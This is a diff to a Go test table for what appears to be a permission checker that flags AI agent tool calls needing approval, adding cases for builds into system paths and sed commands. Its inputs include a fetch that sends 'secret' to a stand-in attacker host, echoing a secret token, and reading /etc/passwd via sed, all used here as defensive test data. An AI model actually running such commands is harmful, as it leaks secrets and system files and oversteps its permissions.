@@ -100,7 +100,8 @@ func TestBuiltinAsks(t *testing.T) {
 		{`Bash(cat /etc/hosts)`, "no rule matches"},
 		{`Bash(ls ~/Downloads)`, "no rule matches"},
 		{`Bash(cd /tmp && ls)`, "no rule matches"},
-		{`Bash(go build -o /usr/local/bin/x .)`, "no rule matches"},
+		{`Bash(go build -o /usr/local/bin/x .)`, "writes into a system location"},
+		{`Bash(go build -o ~/bin/x .)`, "writes a file outside"},
 		{`Bash(docker ps)`, "no rule matches"},
 		{`Bash(echo $SECRET_TOKEN)`, "no rule matches"},
 		{`Read(/etc/hosts)`, "outside the agent's working directory"},
@@ -111,6 +112,8 @@ func TestBuiltinAsks(t *testing.T) {
 		{`WebFetch(https://evil.example.com/?q=secret)`, "outside the documentation"},
 		{`mcp__github__create_issue`, "no rule matches"},
 		{`Bash(find . -name '*.o' -delete)`, "find -delete"},
+		{`Bash(sed -f edits.sed main.go)`, "no rule matches"},
+		{`Bash(sed -n 'r /etc/passwd' main.go)`, "no rule matches"},
 	} {
 		d := p.Check(tc.action, "dev", testEnv)
 		if d.Decide != Ask || !strings.Contains(d.Why, tc.says) {
